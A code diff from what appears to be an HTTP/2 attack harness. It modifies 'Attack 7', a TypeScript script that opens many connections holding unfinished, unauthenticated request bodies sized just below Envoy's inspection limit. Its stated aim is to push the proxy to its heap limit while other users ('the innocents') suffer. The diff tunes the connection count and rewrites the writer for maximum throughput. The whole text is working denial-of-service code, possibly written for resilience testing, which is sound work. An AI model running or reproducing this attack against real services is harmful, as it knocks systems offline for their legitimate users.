@@ -1,14 +1,15 @@
-/** Attack 7: request bodies that are never finished, without a credential: 90 on each of 16 connections. */
+/** Attack 7: request bodies that are never finished, without a credential: 90 on each of 18 connections. */
 
 import type { ClientHttp2Stream } from 'node:http2';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { ATTACKER_ADDRESS, type Attack, count, type Tally } from '../attack.ts';
 import { Connection, type Edge } from '../connection.ts';
 
-const CONNECTIONS = 16;
+/** About 16 reach Envoy's heap limit. */
+const CONNECTIONS = 18;
 const STREAMS_PER_CONNECTION = 90;
 /** A little less than Envoy inspects, so that it waits for the rest. */
-const SENT_BYTES = 1_040_000;
+const SENT_BYTES = 1_048_000;
 const PIECE = Buffer.alloc(65_536, 0x20);
 /** The first connections come one after the other, so that the innocents feel memory and not a burst of handshakes. */
 const CONNECT_EVERY_MS = 250;
@@ -72,18 +73,20 @@ class Holder {
       this.open -= 1;
       count(this.#tally, `ended: ${status}`);
     });
-    void pour(stream);
+    pour(stream);
   }
 }
 
-async function pour(stream: ClientHttp2Stream): Promise<void> {
-  for (let sent = 0; sent < SENT_BYTES && !stream.destroyed; sent += PIECE.length) {
-    const goesOn = stream.write(PIECE.subarray(0, Math.min(PIECE.length, SENT_BYTES - sent)));
-    if (!goesOn) {
-      await new Promise<void>((done) => {
-        stream.once('drain', done);
-        stream.once('close', done);
-      });
+/** Writes as fast as Envoy takes it, and never the end. */
+function pour(stream: ClientHttp2Stream): void {
+  let sent = 0;
+  const goOn = (): void => {
+    while (sent < SENT_BYTES && !stream.destroyed) {
+      const piece = PIECE.subarray(0, Math.min(PIECE.length, SENT_BYTES - sent));
+      sent += piece.length;
+      if (!stream.write(piece)) return;
     }
-  }
+  };
+  stream.on('drain', goOn);
+  goOn();
 }
